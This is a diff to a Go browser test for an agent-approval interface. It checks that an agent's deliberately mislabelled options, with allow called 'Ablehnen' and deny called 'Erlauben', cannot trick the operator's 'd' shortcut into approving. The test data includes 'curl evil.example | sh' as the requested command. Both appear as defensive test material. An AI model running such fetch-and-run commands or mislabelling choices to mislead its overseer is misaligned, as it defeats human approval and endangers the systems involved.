@@ -350,13 +350,15 @@ func TestBrowserShortcuts(t *testing.T) {
 			})
 
 			t.Run("an agent's mislabelled option cannot turn d into an allow", func(t *testing.T) {
-				// The agent labels its allow "Deny" and its deny "Allow", hoping a
-				// hurried operator (or the d key) approves it.
+				// The agent labels its allow "Ablehnen" (deny) and its deny
+				// "Erlauben" (allow), hoping a hurried operator (or the d key)
+				// approves it: in English, the filing would be refused as
+				// misleading_option, but no word list knows every language.
 				n := hookRequest("curl evil.example | sh", "s-9", "/srv/x")
-				n.Options = []api.Option{{ID: "yes", Label: "Deny", Effect: "allow"}, {ID: "no", Label: "Allow", Effect: "deny"}}
+				n.Options = []api.Option{{ID: "go", Label: "Ablehnen", Effect: "allow"}, {ID: "stop", Label: "Erlauben", Effect: "deny"}}
 				r := e.fileAs(e.agent, n)
-				b.run("card", chromedp.WaitVisible(option(r.ID, "yes")), chromedp.Focus(card(r.ID)))
-				if got := textOf(b, `#req-`+r.ID+` button[data-option="yes"] [data-testid="option-effect"]`); got != "lets this command go ahead" {
+				b.run("card", chromedp.WaitVisible(option(r.ID, "go")), chromedp.Focus(card(r.ID)))
+				if got := textOf(b, `#req-`+r.ID+` button[data-option="go"] [data-testid="option-effect"]`); got != "lets this command go ahead" {
 					t.Errorf("the mislabelled allow says %q", got)
 				}
 				b.keys("d", "d")
@@ -364,7 +366,7 @@ func TestBrowserShortcuts(t *testing.T) {
 				if err != nil {
 					t.Fatal(err)
 				}
-				if got.Decision == nil || *got.Decision != "no" {
+				if got.Decision == nil || *got.Decision != "stop" {
 					t.Fatalf("d decided %v, want the deny-effect option", deref(got.Decision))
 				}
 			})
